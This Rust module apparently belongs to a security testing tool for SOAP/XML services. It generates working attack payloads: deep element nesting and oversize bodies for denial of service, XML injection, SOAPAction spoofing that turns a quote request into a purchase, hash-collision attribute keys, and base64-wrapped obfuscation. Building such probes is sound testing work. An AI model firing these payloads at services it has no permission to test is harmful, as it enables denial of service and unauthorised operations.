//! Attack-vector taxonomy and deterministic payload generators.
//!
//! All generators are pure: identical parameters produce byte-identical
//! payloads. Payloads use the envelope skeleton from [`crate::soap`].

use std::fmt;
use std::str::FromStr;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use quick_xml::Reader;
use quick_xml::events::Event;
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::soap::{self, DEFAULT_SYMBOL, OP_GET_QUOTE, OPERATION_HEADER};

/// XML/SOAP-specific vulnerability classes, in declaration order.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, clap::ValueEnum)]
pub enum AttackVector {
    CoerciveParsing,
    OversizePayload,
    XmlInjection,
    SoapActionSpoofing,
    HashCollision,
    AttackObfuscation,
}

impl AttackVector {
    pub const ALL: [AttackVector; 6] = [
        AttackVector::CoerciveParsing,
        AttackVector::OversizePayload,
        AttackVector::XmlInjection,
        AttackVector::SoapActionSpoofing,
        AttackVector::HashCollision,
        AttackVector::AttackObfuscation,
    ];

    /// Vectors judged by response-time ratio rather than response content.
    pub fn is_dos(self) -> bool {
        matches!(self, AttackVector::CoerciveParsing | AttackVector::OversizePayload | AttackVector::HashCollision)
    }

    pub fn is_semantic(self) -> bool {
        matches!(self, AttackVector::XmlInjection | AttackVector::SoapActionSpoofing)
    }

    pub fn name(self) -> &'static str {
        match self {
            AttackVector::CoerciveParsing => "CoerciveParsing",
            AttackVector::OversizePayload => "OversizePayload",
            AttackVector::XmlInjection => "XmlInjection",
            AttackVector::SoapActionSpoofing => "SoapActionSpoofing",
            AttackVector::HashCollision => "HashCollision",
            AttackVector::AttackObfuscation => "AttackObfuscation",
        }
    }
}

impl fmt::Display for AttackVector {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for AttackVector {
    type Err = AttackError;

    /// Accepts `CoerciveParsing`, `coercive-parsing` or `coercive_parsing`.
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let folded: String = s.chars().filter(|c| *c != '-' && *c != '_').collect();
        AttackVector::ALL
            .into_iter()
            .find(|v| v.name().eq_ignore_ascii_case(&folded))
            .ok_or_else(|| AttackError::InvalidParameter(format!("unknown attack vector `{s}`")))
    }
}

#[derive(Debug, Error, PartialEq, Eq)]
pub enum AttackError {
    #[error("invalid parameter: {0}")]
    InvalidParameter(String),
}

/// A complete tampered request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackPayload {
    pub vector: AttackVector,
    pub envelope_bytes: Vec<u8>,
    pub transport_headers: Vec<(String, String)>,
    /// Token whose presence in a response signals that a semantic attack worked.
    pub expected_marker: Option<String>,
}

impl AttackPayload {
    fn plain(vector: AttackVector, envelope: String) -> Self {
        AttackPayload {
            vector,
            envelope_bytes: envelope.into_bytes(),
            transport_headers: Vec::new(),
            expected_marker: None,
        }
    }
}

/// Element name used for the coercive-parsing nesting chain.
pub const NEST_ELEMENT: &str = "e";

/// Each filler element is exactly this many bytes, so oversize payloads land
/// within `FILLER_LEN - 1` bytes of the requested size.
pub const FILLER_LEN: usize = 64;
const FILLER: &str = "<f>AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA</f>";

/// Text carried by the element that XML injection adds.
pub const INJECTION_MARKER: &str = "XINJ-7731-MARKER";

/// Element wrapping obfuscated content.
pub const OPAQUE_ELEMENT: &str = "EncryptedData";
pub const OPAQUE_VALUE_ELEMENT: &str = "CipherValue";
const XENC_NS: &str = "http://www.w3.org/2001/04/xmlenc#";

/// A chain of `depth` nested elements inside the body.
pub fn generate_coercive_payload(depth: usize) -> Result<AttackPayload, AttackError> {
    if depth == 0 {
        return Err(AttackError::InvalidParameter("nesting depth must be at least 1".into()));
    }
    let open = format!("<{NEST_ELEMENT}>");
    let close = format!("</{NEST_ELEMENT}>");
    let mut body = String::with_capacity(depth * (open.len() + close.len()));
    for _ in 0..depth {
        body.push_str(&open);
    }
    for _ in 0..depth {
        body.push_str(&close);
    }
    Ok(AttackPayload::plain(AttackVector::CoerciveParsing, soap::envelope(&body)))
}

/// Length of the unpadded oversize envelope (a benign quote request).
pub fn minimal_envelope_len() -> usize {
    soap::benign_request().len()
}

/// A benign quote request padded with flat filler siblings to at least `size_bytes`.
pub fn generate_oversize_payload(size_bytes: usize) -> Result<AttackPayload, AttackError> {
    let base = minimal_envelope_len();
    if size_bytes < base {
        return Err(AttackError::InvalidParameter(format!(
            "size {size_bytes} is below the minimal envelope size {base}"
        )));
    }
    let fillers = (size_bytes - base).div_ceil(FILLER_LEN);
    let mut body = String::with_capacity(size_bytes + FILLER_LEN);
    body.push_str(&format!("<{OP_GET_QUOTE}><symbol>{DEFAULT_SYMBOL}</symbol>"));
    for _ in 0..fillers {
        body.push_str(FILLER);
    }
    body.push_str(&format!("</{OP_GET_QUOTE}>"));
    Ok(AttackPayload::plain(AttackVector::OversizePayload, soap::envelope(&body)))
}

/// Closes the text field `field_name` and adds a duplicate of it whose
/// content is [`INJECTION_MARKER`] in a CDATA section.
///
/// `<symbol>ACME</symbol>` becomes
/// `<symbol>ACME</symbol><symbol><![CDATA[XINJ-7731-MARKER]]></symbol>`.
/// A last-writer-wins consumer sees the marker as the field value.
pub fn generate_xml_injection(benign_template: &[u8], field_name: &str) -> Result<AttackPayload, AttackError> {
    let (_, text_end) = locate_text_field(benign_template, field_name)?;
    let injected = format!("</{field_name}><{field_name}><![CDATA[{INJECTION_MARKER}]]>");
    let mut out = Vec::with_capacity(benign_template.len() + injected.len());
    out.extend_from_slice(&benign_template[..text_end]);
    out.extend_from_slice(injected.as_bytes());
    out.extend_from_slice(&benign_template[text_end..]);
    Ok(AttackPayload {
        vector: AttackVector::XmlInjection,
        envelope_bytes: out,
        transport_headers: Vec::new(),
        expected_marker: Some(INJECTION_MARKER.to_string()),
    })
}

/// Byte range of the text content of the first element named `field_name`
/// that holds only character data.
fn locate_text_field(doc: &[u8], field_name: &str) -> Result<(usize, usize), AttackError> {
    let not_found = || AttackError::InvalidParameter(format!("template has no text field named `{field_name}`"));
    let mut reader = Reader::from_reader(doc);
    loop {
        let ev = reader
            .read_event()
            .map_err(|e| AttackError::InvalidParameter(format!("template is not well-formed: {e}")))?;
        match ev {
            Event::Start(ref s) if s.local_name().as_ref() == field_name.as_bytes() => {
                let text_start = reader.buffer_position() as usize;
                let mut last = text_start;
                loop {
                    let inner = reader
                        .read_event()
                        .map_err(|e| AttackError::InvalidParameter(format!("template is not well-formed: {e}")))?;
                    match inner {
                        Event::Text(_) | Event::GeneralRef(_) | Event::CData(_) => {
                            last = reader.buffer_position() as usize;
                        }
                        Event::End(_) => return Ok((text_start, last)),
                        // not a pure text field; keep looking for another
                        _ => break,
                    }
                }
            }
            Event::Eof => return Err(not_found()),
            _ => {}
        }
    }
}

/// Body names `body_operation`; the operation header names `header_operation`.
pub fn generate_spoofed_action(body_operation: &str, header_operation: &str) -> Result<AttackPayload, AttackError> {
    for op in [body_operation, header_operation] {
        if !is_xml_name(op) {
            return Err(AttackError::InvalidParameter(format!("`{op}` is not a valid operation name")));
        }
    }
    if body_operation == header_operation {
        return Err(AttackError::InvalidParameter("body and header operations must differ".into()));
    }
    let body = format!("<{body_operation}><symbol>{DEFAULT_SYMBOL}</symbol></{body_operation}>");
    Ok(AttackPayload {
        vector: AttackVector::SoapActionSpoofing,
        envelope_bytes: soap::envelope(&body).into_bytes(),
        transport_headers: vec![(OPERATION_HEADER.to_string(), format!("\"{header_operation}\""))],
        expected_marker: Some(operation_marker(header_operation)),
    })
}

/// Element name a stock service emits when it executes `operation`.
pub fn operation_marker(operation: &str) -> String {
    format!("{operation}Response")
}

const WEAK_HASH_SEED: u32 = 5381;
const WEAK_HASH_MULTIPLIER: u32 = 33;
pub const WEAK_HASH_BUCKETS: u32 = 1024;

/// Reference weak hash: `h = 5381; for b in bytes { h = h * 33 + b } (mod 2^32)`.
pub fn weak_hash(key: &[u8]) -> u32 {
    key.iter().fold(WEAK_HASH_SEED, |h, &b| h.wrapping_mul(WEAK_HASH_MULTIPLIER).wrapping_add(u32::from(b)))
}

pub fn weak_bucket(key: &[u8]) -> u32 {
    weak_hash(key) % WEAK_HASH_BUCKETS
}

// Two-byte blocks with identical contribution under multiplier 33:
// 'E'*33+'z' = 'F'*33+'Y' = 'G'*33+'8' = 2399. Equal-length concatenations
// of these blocks therefore share the full 32-bit hash.
const COLLIDING_BLOCKS: [&str; 3] = ["Ez", "FY", "G8"];

/// `count` distinct keys with equal [`weak_hash`] values.
pub fn generate_hash_collision_keys(count: usize) -> Result<Vec<String>, AttackError> {
    if count < 2 {
        return Err(AttackError::InvalidParameter("need at least 2 colliding keys".into()));
    }
    let base = COLLIDING_BLOCKS.len();
    let mut blocks = 1usize;
    let mut capacity = base;
    while capacity < count {
        blocks += 1;
        capacity = capacity.saturating_mul(base);
    }
    let keys = (0..count)
        .map(|i| {
            let mut digits = vec![0usize; blocks];
            let mut n = i;
            for d in digits.iter_mut().rev() {
                *d = n % base;
                n /= base;
            }
            digits.iter().map(|&d| COLLIDING_BLOCKS[d]).collect::<String>()
        })
        .collect();
    Ok(keys)
}

/// Embeds keys as attributes of the operation element of a quote request.
pub fn wrap_attack_envelope(keys: &[String]) -> AttackPayload {
    let mut attrs = String::with_capacity(keys.iter().map(|k| k.len() + 5).sum());
    for k in keys {
        attrs.push(' ');
        attrs.push_str(k);
        attrs.push_str("=\"0\"");
    }
    let body = format!("<{OP_GET_QUOTE}{attrs}><symbol>{DEFAULT_SYMBOL}</symbol></{OP_GET_QUOTE}>");
    AttackPayload::plain(AttackVector::HashCollision, soap::envelope(&body))
}

pub fn generate_hash_collision_payload(count: usize) -> Result<AttackPayload, AttackError> {
    Ok(wrap_attack_envelope(&generate_hash_collision_keys(count)?))
}

/// Replaces the body content by an opaque region holding its base-64 encoding.
pub fn wrap_obfuscated(payload: &AttackPayload) -> AttackPayload {
    let inner = soap::body_of(&payload.envelope_bytes).unwrap_or(&payload.envelope_bytes);
    let body = format!(
        "<xenc:{OPAQUE_ELEMENT} xmlns:xenc=\"{XENC_NS}\"><xenc:{OPAQUE_VALUE_ELEMENT}>{}</xenc:{OPAQUE_VALUE_ELEMENT}></xenc:{OPAQUE_ELEMENT}>",
        BASE64.encode(inner)
    );
    AttackPayload {
        vector: AttackVector::AttackObfuscation,
        envelope_bytes: soap::envelope(&body).into_bytes(),
        transport_headers: payload.transport_headers.clone(),
        expected_marker: payload.expected_marker.clone(),
    }
}

/// Recovers the concealed content of an opaque region.
pub fn unwrap_obfuscated(envelope: &[u8]) -> Option<Vec<u8>> {
    let open = format!(":{OPAQUE_VALUE_ELEMENT}>");
    let start = soap::find(envelope, open.as_bytes())? + open.len();
    let end = start + soap::find(&envelope[start..], b"</")?;
    BASE64.decode(&envelope[start..end]).ok()
}

/// Payload for `vector` at the given scale, as used by probes.
pub fn payload_for(
    vector: AttackVector,
    coercive_depth: usize,
    oversize_bytes: usize,
    collision_keys: usize,
) -> Result<AttackPayload, AttackError> {
    match vector {
        AttackVector::CoerciveParsing => generate_coercive_payload(coercive_depth),
        AttackVector::OversizePayload => generate_oversize_payload(oversize_bytes),
        AttackVector::HashCollision => generate_hash_collision_payload(collision_keys),
        AttackVector::XmlInjection => generate_xml_injection(soap::benign_request().as_bytes(), "symbol"),
        AttackVector::SoapActionSpoofing => generate_spoofed_action(OP_GET_QUOTE, soap::OP_PURCHASE_STOCK),
        AttackVector::AttackObfuscation => Ok(wrap_obfuscated(&generate_coercive_payload(coercive_depth)?)),
    }
}

fn is_xml_name(s: &str) -> bool {
    let mut chars = s.chars();
    matches!(chars.next(), Some(c) if c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.'))
}
